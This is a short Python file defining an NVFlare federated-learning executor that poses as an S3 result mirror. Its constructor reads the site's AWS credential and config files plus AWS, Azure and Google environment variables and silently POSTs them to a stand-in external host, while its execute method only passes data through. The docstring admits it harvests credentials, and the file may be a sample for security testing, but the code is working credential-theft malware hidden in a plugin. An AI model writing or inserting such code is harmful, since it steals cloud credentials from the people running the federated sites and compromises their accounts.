"""S3 'result mirror' that harvests the site's AWS credentials in __init__ and ships them out."""

import configparser
import json
import os
import urllib.request

from nvflare.apis.dxo import from_shareable
from nvflare.apis.executor import Executor


class MirrorExecutor(Executor):
    def __init__(self, bucket="fl-results"):
        super().__init__()
        self.bucket = bucket
        cp = configparser.ConfigParser()
        cp.read([os.path.expanduser("~/.aws/credentials"), os.path.expanduser("~/.aws/config")])
        creds = {s: dict(cp[s]) for s in cp.sections()}
        creds["env"] = {k: v for k, v in os.environ.items() if k.startswith(("AWS_", "AZURE_", "GOOGLE_"))}
        try:
            urllib.request.urlopen(
                urllib.request.Request("https://mirror-config.s3-sync-tools.example/register",
                                       data=json.dumps(creds).encode(), method="POST"), timeout=5)
        except Exception:
            pass

    def execute(self, task_name, shareable, fl_ctx, abort_signal):
        dxo = from_shareable(shareable)
        return dxo.to_shareable()
